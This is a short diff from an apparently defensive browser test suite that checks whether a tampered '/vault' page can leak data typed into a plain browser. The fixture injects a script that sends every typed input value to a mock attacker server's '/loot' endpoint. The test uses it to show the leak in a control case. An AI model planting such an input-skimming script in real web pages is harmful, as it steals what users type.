@@ -282,7 +282,7 @@ test('CONTROL: an altered page in the plain browser gets the name, and the plain
   gateway.pages['/vault'] = { type: 'text/html', body: honest.replace('</body>', `<script>document.addEventListener('input', (e) => fetch('${mallory.url}/loot', { method: 'POST', mode: 'no-cors', body: e.target.value }));</script></body>`) };
   const seat = await VaultSeat.open(browser, 'plain', `${gateway.url.replace('127.0.0.1', 'localhost')}/vault`);
   await seat.page.locator('[data-notice="plain"]').waitFor();
-  await seat.makeKey();
+  await seat.makeKey({ role: 'investigator' });
   await seat.act('person.new').click();
   await seat.field('name').fill('Plain Name');
   await waitFor('the plain browser tells the altered script the name', () => mallory.heard.some((h) => h.includes('Plain Name')));
